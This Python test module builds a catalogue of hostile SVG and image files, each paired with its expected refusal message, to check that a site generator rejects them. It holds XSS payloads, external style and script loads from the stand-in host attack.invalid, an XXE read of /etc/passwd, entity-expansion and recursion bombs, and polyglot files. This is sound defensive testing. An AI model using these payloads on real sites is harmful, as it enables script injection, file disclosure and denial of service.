"""Attacks by pictures: the files that a text, a speaker and an organizer show."""

import struct
import zlib
from collections.abc import Iterator
from io import BytesIO

from PIL import Image, PngImagePlugin

HOST = "https://attack.invalid"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"{}>{}</svg>'
_BOX = '<rect width="9" height="9"/>'
_HTML = b"<script>attack()</script><img src=x onerror=attack()>"


def _svg(inside: str = "", attributes: str = "") -> bytes:
    return _SVG.format(attributes, _BOX + inside).encode()


def _growing(use: str, part: str = "g") -> bytes:
    """Ten times the one before, eleven times over."""
    parts = [f'<{part} id="p{n}">{use.format(f"p{n - 1}") * 10}</{part}>' for n in range(1, 12)]
    return _svg(f'<{part} id="p0">{_BOX}</{part}>{"".join(parts)}{use.format("p11")}')


# name: (file, what a refusal says)
DRAWINGS = {
    "script": (_svg("<script>attack()</script>"), ""),
    "script with an address": (_svg(f'<script href="{HOST}/x.js"/>'), ""),
    "script with a prefix": (
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>attack()</s:script></s:svg>', ""
    ),
    "script of HTML": (_svg('<script xmlns="http://www.w3.org/1999/xhtml">attack()</script>'), ""),
    "event": (_svg(attributes=' onload="attack()" onclick="attack()"'), ""),
    "event of a shape": (_svg('<circle r="1" onmouseover="attack()" onbegin="attack()"/>'), ""),
    "HTML": (_svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="attack()"/></body></foreignObject>'), ""),
    "link": (_svg('<a href="javascript:attack()"><text>x</text></a>'), ""),
    "link with a prefix": (_svg('<a xlink:href="javascript:attack()"><text>x</text></a>'), ""),
    "link set later": (_svg('<a><set attributeName="href" to="javascript:attack()"/><text>x</text></a>'), ""),
    "link animated": (_svg('<a><animate attributeName="href" values="java&#9;script:attack()"/><text>x</text></a>'), ""),
    "handler": (_svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">attack()</handler>'), ""),
    "style that imports": (_svg(f'<style>@import "{HOST}/x.css";</style>'), ""),
    "style that hides": (_svg(f"<style>@\\69mport '{HOST}/x.css'; rect{{fill:u\\72l({HOST}/x)}}</style>"), "elsewhere"),
    "style of a set": (_svg(f'<rect style="fill: image-set(\'{HOST}/x.png\' 1x)" width="1" height="1"/>'), "elsewhere"),
    "style by an instruction": (f'<?xml-stylesheet href="{HOST}/x.css"?>'.encode() + _svg(), ""),
    "transform by an instruction": (f'<?xml-stylesheet type="text/xsl" href="{HOST}/x.xsl"?>'.encode() + _svg(), ""),
    "fill": (_svg(f'<rect fill="url({HOST}/x#y)" width="1" height="1"/>'), ""),
    "picture": (_svg(f'<image href="{HOST}/x.png" width="1" height="1"/>'), "which browsers do not load"),
    "picture of data": (_svg('<image href="data:image/svg+xml,&lt;svg onload=attack()&gt;" width="1" height="1"/>'), "which browsers"),
    "picture of a script": (_svg('<image xlink:href="javascript:attack()" width="1" height="1"/>'), "which browsers"),
    "use": (_svg(f'<use href="{HOST}/x.svg#x"/>'), "which browsers do not load"),
    "filter": (_svg(f'<filter id="f"><feImage href="{HOST}/x.png"/></filter>'), "which browsers do not load"),
    "base": (_svg(f'<g xml:base="{HOST}/"><use href="#x"/></g>'), ""),
    "entity of a file": (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _svg("<text>&x;</text>"), "is not the XML"),
    "entity in its parameters": (f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{HOST}/x.dtd"> %x;]>'.encode() + _svg(), ""),
    "entities that grow": (
        b'<!DOCTYPE svg [<!ENTITY a "' + b"x" * 50000 + b'">' + b"".join(
            b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(9)
        ) + b"]>" + _svg("<text>&j;</text>"), "is not the XML",
    ),
    "entity as a tag": (b'<!DOCTYPE svg [<!ENTITY x "<script>attack()</script>">]>' + _svg("&x;"), ""),
    "character data": (_svg("<style><![CDATA[</style><script>attack()</script>]]></style>"), ""),
    "comment": (_svg("<!-- --><script>attack()</script><!-- -->"), ""),
    "frame": (_svg(f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{HOST}/"/>'), ""),
    "HTML under the name": (b"<!doctype html><script>attack()</script>", "is not the XML"),
    "other XML": (b'<html xmlns="http://www.w3.org/1999/xhtml"><script>attack()</script></html>', "no drawing"),
    "parts that grow": (_growing('<use href="#{}"/>'), "until a browser stands still"),
    "patterns that grow": (_growing('<rect width="1" height="1" fill="url(#{})"/>', "pattern"), "until a browser stands still"),
    "part of itself": (_svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/><use href="#b"/></g>'), ""),
    "in UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-' + _svg(), "is not the XML"),
    "in UTF-16": (('<?xml version="1.0" encoding="UTF-16"?>' + _svg("<script>attack()</script>").decode()).encode("utf-16"), ""),
    "tags in each other": (_svg("<g>" * 3000 + "</g>" * 3000), "cannot be made safe"),
    "without an end": (b"<svg><script>attack()", "is not the XML"),
    "large": (_svg().replace(b'viewBox="0 0 9 9"', b'width="999999" height="999999"'), ""),
}  # fmt: skip


def _saved(format: str, **options: object) -> bytes:
    file = BytesIO()
    Image.new("RGB", (9, 9), "navy").save(file, format, **options)  # type: ignore[arg-type]
    return file.getvalue()


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "<script>attack()</script>"
    exif[0x8769] = {0x9286: b"attack"}
    return exif.tobytes()


def _png_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "<script>attack()</script>")
    text.add_itxt("XML:com.adobe.xmp", "attack", zip=True)
    return _saved("PNG", pnginfo=text)


def _png_of(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


PHOTOS = {
    "Exif with HTML.jpg": (_saved("JPEG", exif=_exif(), comment=_HTML), ""),
    "Exif with HTML.webp": (_saved("WEBP", exif=_exif(), xmp=_HTML), ""),
    "Exif with HTML.png": (_saved("PNG", exif=_exif()), ""),
    "text of attack.png": (_png_text(), ""),
    "profile.jpg": (_saved("JPEG", icc_profile=_HTML * 9), ""),
    "HTML behind.jpg": (_saved("JPEG") + _HTML, ""),
    "HTML behind.png": (_saved("PNG") + _HTML, ""),
    "archive behind.gif": (_saved("GIF") + b"PK\x03\x04attack", ""),
    "script before.gif": (b"GIF89a/*" + _HTML + b"*/=1;", "not a picture"),
    "HTML.png": (_HTML, "not a picture"),
    "drawing.png": (_svg("<script>attack()</script>"), "is an SVG drawing under another name"),
    "PDF.jpg": (b"%PDF-1.7\n/JavaScript (attack\\(\\))", "is a PDF file"),
    "PostScript.png": (b"%!PS-Adobe-3.0 EPSF-3.0\n(attack) run", "is a EPS file"),
    "empty.png": (b"", "is empty"),
    "wide.png": (_png_of(60_000, 60_000), "more pixels than can be read safely"),
    "long.png": (_png_of(20_000, 1), "has room for 16383"),
    "endless.png": (_png_of(2**31 - 1, 2**31 - 1), "more pixels than"),
    "without data.png": (_png_of(900, 900), "breaks off"),
    "half.jpg": (_saved("JPEG")[:200], "not a picture"),
    "noise.webp": (b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\xff" * 99, "not a picture"),
}


def attacks() -> Iterator[tuple[str, dict[str, object], str]]:
    """Each picture as a name, what it puts into a site, and what a refusal says; it is shown at every place."""
    for name, (data, said) in [*((f"{name}.svg", each) for name, each in DRAWINGS.items()), *PHOTOS.items()]:
        shown = {
            f"content/photos/{name}": data,
            "content/page.md": f"![A hall](<photos/{name}>)\n",
            "content/speakers/speaker-1.md#photo": f"photos/{name}",
            "site.yaml#organizers.0.logo": f"photos/{name}",
        }
        yield name, shown if name.endswith(".svg") else {**shown, "site.yaml#event.image": f"photos/{name}"}, said
